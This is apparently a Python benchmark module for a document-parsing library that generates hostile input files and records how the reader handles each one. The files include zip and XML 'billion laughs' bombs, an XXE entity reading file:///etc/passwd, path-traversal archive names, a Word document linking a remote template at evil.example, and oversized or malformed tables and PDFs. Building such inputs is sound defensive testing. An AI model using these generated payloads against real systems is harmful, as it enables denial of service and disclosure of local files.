"""Files made to hang or to harm: what each prints, how long it takes, how much memory.

python -m benchmarks.hostile [CASE …]      prints the table of docs/hostile.md

Each file is read in a fresh process; the memory is the largest resident set of that process and
the largest of those it started (the reader, LibreOffice), added up.
"""

import gzip
import io
import json
import os
import random
import subprocess
import sys
import tempfile
import zipfile
from collections.abc import Callable, Sequence
from pathlib import Path

import openpyxl

from benchmarks.layouts import invented, layout
from benchmarks.office import docx_of, html_of, pdf_of, xlsx_of

__all__ = ["CASES", "changed", "main"]

Case = Callable[[], bytes]

_TABLE = layout("shanghai", invented(random.Random(9)))
_SHEET_PART = "xl/worksheets/sheet1.xml"
_WORD_PART = "word/document.xml"


def _word() -> bytes:
    return docx_of([_TABLE])


def _book() -> bytes:
    return xlsx_of([_TABLE])


def _page() -> bytes:
    return html_of([_TABLE])


def _print() -> bytes:
    return pdf_of([_TABLE])


def changed(data: bytes, part: str, change: Callable[[bytes], bytes]) -> bytes:
    """The zip package ``data`` with one of its parts changed."""
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as old, zipfile.ZipFile(stream, "w", 8) as new:
        for name in old.namelist():
            content = old.read(name)
            new.writestr(name, change(content) if name == part else content)
    return stream.getvalue()


def _zip(members: Sequence[tuple[str, bytes]]) -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members:
            archive.writestr(name, content)
    return stream.getvalue()


def _nested(depth: int) -> bytes:
    data = _word()
    for level in range(depth):
        data = _zip([(f"l{level}.zip" if level else "a.docx", data)])
    return data


def _gbk_names() -> bytes:
    info = zipfile.ZipInfo("x" * len("教育局/目标表.docx".encode("gbk")))
    data = _word()
    raw = _zip([(info.filename, data)])
    return raw.replace(info.filename.encode(), "教育局/目标表.docx".encode("gbk"))


_LAUGHS = (
    b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(12))
    + b'<!ENTITY file SYSTEM "file:///etc/passwd">]>'
)


def _declared(part: bytes) -> bytes:
    body = part[part.index(b"?>") + 2 :] if part.startswith(b"<?xml") else part
    return _LAUGHS + body.replace(b"</w:t>", b"&m;&file;</w:t>", 1)


def _workbook(fill: Callable[[object], None]) -> bytes:
    workbook = openpyxl.Workbook()
    fill(workbook.worksheets[0])
    stream = io.BytesIO()
    workbook.save(stream)
    return stream.getvalue()


def _rows(count: int, width: int) -> bytes:
    def fill(sheet: object) -> None:
        for row in range(count):
            sheet.append([f"{row}-{column}" for column in range(width)])  # type: ignore[attr-defined]

    return _workbook(fill)


def _corners() -> bytes:
    def fill(sheet: object) -> None:
        for place in ("A1", "XFD1048576"):
            sheet[place] = "项目名称"  # type: ignore[index]

    return _workbook(fill)


def _far() -> bytes:
    def fill(sheet: object) -> None:
        sheet["XFD1048576"] = "项目名称"  # type: ignore[index]

    return _workbook(fill)


def _merges(count: int) -> bytes:
    ranges = b"".join(b'<mergeCell ref="A%d:B%d"/>' % (n + 1, n + 1) for n in range(count))
    return changed(
        _workbook(lambda sheet: sheet.append(["项目名称"])),  # type: ignore[attr-defined]
        _SHEET_PART,
        lambda d: d.replace(
            b"</sheetData>",
            b'</sheetData><mergeCells count="%d">' % count + ranges + b"</mergeCells>",
        ),
    )


def _whole_merges() -> bytes:
    ranges = b'<mergeCell ref="A1:XFD1048576"/>' * 1000
    return changed(
        _corners(), _SHEET_PART,
        lambda d: d.replace(b"</sheetData>", b"</sheetData><mergeCells>" + ranges + b"</mergeCells>"),
    )  # fmt: skip


def _shared_strings() -> bytes:
    """The longest string that Excel allows, shared by 100,000 cells."""
    cells = b"".join(
        b'<row r="%d"><c r="A%d" t="s"><v>0</v></c></row>' % (n, n) for n in range(1, 100_001)
    )
    data = changed(
        _workbook(lambda sheet: sheet.append(["项目名称"])),  # type: ignore[attr-defined]
        _SHEET_PART,
        lambda d: d[: d.index(b"<sheetData>") + 11] + cells + d[d.index(b"</sheetData>") :],
    )
    return changed(
        data, "xl/sharedStrings.xml", lambda d: d.replace("项目名称".encode(), b"a" * 32_000)
    )


def _deep_word(depth: int, *, closed: bool) -> bytes:
    opening, closing = b"<w:tbl><w:tr><w:tc>", b"<w:p/></w:tc></w:tr></w:tbl>"
    tables = opening * depth + (closing * depth if closed else b"")
    return changed(_word(), _WORD_PART, lambda d: d.replace(b"<w:body>", b"<w:body>" + tables))


def _pdf(body: Callable[[], list[bytes]]) -> bytes:
    """A PDF of the numbered objects that ``body`` gives; the first is the catalogue."""
    data = b"%PDF-1.7\n"
    places = []
    for number, content in enumerate(body(), start=1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + content + b"\nendobj\n"
    start = len(data)
    data += b"xref\n0 %d\n0000000000 65535 f \n" % (len(places) + 1)
    data += b"".join(b"%010d 00000 n \n" % place for place in places)
    return data + b"trailer\n<</Size %d/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(places) + 1, start,
    )  # fmt: skip


def _page_tree_round() -> bytes:
    return _pdf(
        lambda: [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 3/Kids[3 0 R]>>",
            b"<</Type/Pages/Parent 2 0 R/Count 3/Kids[2 0 R 3 0 R]>>",
        ]
    )


def _huge_image() -> bytes:
    import zlib

    pixels = zlib.compress(bytes(30_000 * 30_000 // 8), 9)
    picture = (
        b"<</Type/XObject/Subtype/Image/Width 30000/Height 30000/BitsPerComponent 1"
        b"/ColorSpace/DeviceGray/Filter/FlateDecode/Length %d>>stream\n" % len(pixels)
        + pixels + b"\nendstream"
    )  # fmt: skip
    draw = b"q 600 0 0 800 0 0 cm /I Do Q"
    return _pdf(
        lambda: [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>>>",
            b"<</Length %d>>stream\n" % len(draw) + draw + b"\nendstream",
            picture,
        ]
    )


def _drawn(count: int) -> bytes:
    """A page with ``count`` ruling lines."""
    random_ = random.Random(3)
    lines = b"".join(
        b"%d %d m %d %d l S\n" % tuple(random_.randrange(600) for _ in range(4))
        for _ in range(count)
    )
    return _pdf(
        lambda: [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R/Resources<<>>>>",
            b"<</Length %d>>stream\n" % len(lines) + lines + b"\nendstream",
        ]
    )


def _many_pages(count: int) -> bytes:
    kids = b" ".join(b"%d 0 R" % (n + 3) for n in range(count))
    return _pdf(
        lambda: [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count %d/Kids[%s]>>" % (count, kids),
            *[b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]>>"] * count,
        ]
    )


def _link(data: bytes) -> bytes:
    target = (
        b'<Relationship Id="rId99" Type="http://schemas.openxmlformats.org/officeDocument/2006/'
        b'relationships/attachedTemplate" Target="http://evil.example/x.dotm" TargetMode="External"/>'
    )
    return changed(
        data, "word/_rels/document.xml.rels",
        lambda d: d.replace(b"</Relationships>", target + b"</Relationships>"),
    )  # fmt: skip


def _macro() -> bytes:
    stream = io.BytesIO(_word())
    with zipfile.ZipFile(stream, "a") as archive:
        archive.writestr("word/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    return stream.getvalue()


_OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_TITLE = "项目支出绩效目标表\n"

CASES: dict[str, Case] = {
    "bomb.zip": lambda: _zip([("a.txt", bytes(80_000_000))]),
    "bombs.zip": lambda: _zip([(f"{n}.txt", b"a" * 60_000_000) for n in range(12)]),
    "bomb.docx": lambda: changed(_word(), _WORD_PART, lambda d: d.replace(b"<w:body>", b"<w:body>" + b"<w:p/>" * 15_000_000)),
    "bigpart.docx": lambda: changed(_word(), _WORD_PART, lambda d: d + b" " * 140_000_000),
    "bomb.xlsx": lambda: changed(_book(), _SHEET_PART, lambda d: d + b" " * 560_000_000),
    "xxe.docx": lambda: changed(_word(), _WORD_PART, _declared),
    "laughs.xlsx": lambda: changed(_book(), _SHEET_PART, _declared),
    "laughs.html": lambda: _LAUGHS + b"<html><body>&m;" + _page()[15:],
    "rows10000.xlsx": lambda: _rows(10_000, 12),
    "rows200000.xlsx": lambda: _rows(200_000, 2),
    "cols5000.xlsx": lambda: _rows(2, 5000),
    "corners.xlsx": _corners,
    "far.xlsx": _far,
    "merges.xlsx": _whole_merges,
    "merges1e6.xlsx": lambda: _merges(1_000_000),
    "strings.xlsx": _shared_strings,
    "deep.docx": lambda: _deep_word(3000, closed=False),
    "deep200.docx": lambda: _deep_word(80, closed=True),
    "deep50000.docx": lambda: _deep_word(50_000, closed=True),
    "truncated.docx": lambda: _word()[: 18_000],
    "truncated.xlsx": lambda: _book()[:-100],
    "truncated.pdf": lambda: _print()[: len(_print()) // 2],
    "truncated.html": lambda: _page()[: len(_page()) * 2 // 3],
    "encrypted.docx": lambda: _OLE + bytes(600) + "EncryptedPackage".encode("utf-16-le"),
    "damaged.xls": lambda: _OLE + bytes(600) + "Workbook".encode("utf-16-le"),
    "noise.doc": lambda: _OLE + random.Random(2).randbytes(4000) + "WordDocument".encode("utf-16-le"),
    "docx_as.pdf": _word,
    "pdf_as.xlsx": _print,
    "html_as.xls": _page,
    "xlsx_as.doc": _book,
    "txt_as.docx": lambda: "这里没有表".encode(),
    "zero.docx": lambda: b"",
    "zeros.pdf": lambda: bytes(100_000),
    "noise.docx": lambda: random.Random(1).randbytes(50_000),
    "gzip.docx": lambda: gzip.compress(_word()),
    "gzip_as.csv": lambda: gzip.compress(bytes(50_000_000)),
    "traversal.zip": lambda: _zip([("../../etc/passwd.docx", _word()), ("/abs/页.html", _page()), ("..\\..\\evil.xlsx", _book())]),
    "gbk.zip": _gbk_names,
    "nested.zip": lambda: _nested(6),
    "mixed.zip": lambda: _zip([("bad.docx", _word()[:9000]), ("empty.txt", b""), ("good.docx", _word()), ("pic.png", b"\x89PNG\r\n\x1a\n" + bytes(99))]),
    "members1e5.zip": lambda: _zip([(f"{n}.txt", b"") for n in range(100_000)]),
    "pages500.pdf": lambda: _many_pages(500),
    "forms380.pdf": lambda: pdf_of([_TABLE] * 380),
    "roundtree.pdf": _page_tree_round,
    "hugeimage.pdf": _huge_image,
    "lines.pdf": lambda: _drawn(60_000),
    "deep.html": lambda: b"<html>" + b"<table><tr><td>" * 50_000 + b"x",
    "unclosed1e6.html": lambda: b"<html><table>" + b"<tr><td>" * 1_000_000,
    "spans.html": lambda: b"<table>" + (b"<tr>" + "<td rowspan=65534 colspan=1000>项目名称</td>".encode() * 50 + b"</tr>") + b"<tr><td>x</td></tr>" * 100_000 + b"</table>",
    "big.html": lambda: b"<table>" + "<tr><td>项目名称</td><td>路灯</td></tr>".encode() * 300_000 + b"</table>",
    "line50MB.csv": lambda: _TITLE.encode() + b"a," * 25_000_000,
    "cell50MB.txt": lambda: _TITLE.encode() + b"a\t" + b"b" * 50_000_000,
    "columns1e6.txt": lambda: _TITLE.encode() + b"a\t" * 1_000_000,
    "quotes.csv": lambda: b"name,target\n" + b'"a,b\n' * 400_000,
    "labels.txt": lambda: "项目名称：路灯\n".encode() * 300_000,
    "brackets.txt": lambda: _TITLE.encode() + ("项目名称\t" + "（" * 200_000).encode(),
    "operators.txt": lambda: _TITLE.encode() + ("项目名称\t路灯\n一级指标\t二级指标\t三级指标\t指标值\n" + "产出指标\t数量指标\t" + "≥" * 500_000 + "\t" + "1" * 500_000).encode(),
    "links.docx": lambda: _link(_word()),
    "macro.docm": _macro,
    "slides.pptx": lambda: _zip([("ppt/presentation.xml", b"<x/>")]),
    "x.rar": lambda: b"Rar!\x1a\x07\x00" + bytes(100),
    "image.png": lambda: b"\x89PNG\r\n\x1a\n" + bytes(5000),
    "timely.txt": lambda: _TITLE.encode() + ("项目名称\t路灯\n一级指标\t二级指标\t三级指标\t指标值\n产出指标\t质量指标\t路灯完好率\t≥9%\n" + "\t\t维修及时性\t及时\n" * 90_000).encode(),
    "levels.txt": lambda: _TITLE.encode() + ("项目名称\t路灯\n一级指标\t二级指标\t三级指标\t指标值\n" + "\t\t维修及时性\t≥1%\n\t质量指标\t亮灯率\t≥2%\n" * 45_000).encode(),
    "loop.rtf": lambda: b"{\\rtf1" + b"{\\b " * 200_000,
}  # fmt: skip

_CHILD = """
import json, resource, sys, time
from pathlib import Path
from zhibiao.forms import isolation
from zhibiao.forms.document import read_documents
from zhibiao.forms.errors import DocumentError
start = time.perf_counter()
lines, count = [], 0
for found in read_documents(Path(sys.argv[1])):
    count += 1
    if len(lines) < 4:
        lines.append(str(found) if isinstance(found, DocumentError) else f"{found.file}: {len(found.forms)} 表")
    else:
        lines[3] = str(found) if isinstance(found, DocumentError) else found.file
seconds = time.perf_counter() - start
isolation._WORKERS.close()
peak = sum(resource.getrusage(who).ru_maxrss for who in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN))
print(json.dumps([count, lines, seconds, peak]))
"""


def measured(path: Path) -> tuple[int, list[str], float, float]:
    """What reading ``path`` gives: documents and errors, the first three lines and the last,
    seconds, megabytes."""
    run = subprocess.run(
        [sys.executable, "-c", _CHILD, str(path)], capture_output=True, text=True, check=False,
        env={**os.environ, "OMP_NUM_THREADS": "1"}, timeout=120,
    )  # fmt: skip
    if run.returncode:
        return 1, [f"!! {run.stderr.strip().splitlines()[-1]}"], 0.0, 0.0
    count, lines, seconds, peak = json.loads(run.stdout)
    return count, lines, seconds, peak / 1024


def main() -> None:
    """Print the table."""
    if sys.argv[1:2] == ["--make"]:
        Path(sys.argv[3]).write_bytes(CASES[sys.argv[2]]())
        return
    wanted = sys.argv[1:] or list(CASES)
    print("| file | size, KB | seconds | MB | printed |\n|---|--:|--:|--:|---|")
    with tempfile.TemporaryDirectory() as folder:
        for name in wanted:
            path = Path(folder, name)
            # Made elsewhere: a process begins with the largest resident set of its parent.
            command = [sys.executable, "-m", "benchmarks.hostile", "--make", name, str(path)]
            subprocess.run(command, check=True)
            count, lines, seconds, memory = measured(path)
            if count > len(lines):
                lines.insert(3, f"（共 {count:,} 个）…")
            text = "<br>".join(line.replace(f"{folder}/", "") for line in lines)
            size = path.stat().st_size // 1024
            print(f"| {name} | {size} | {seconds:.2f} | {memory:.0f} | {text} |", flush=True)
            path.unlink()


if __name__ == "__main__":
    main()
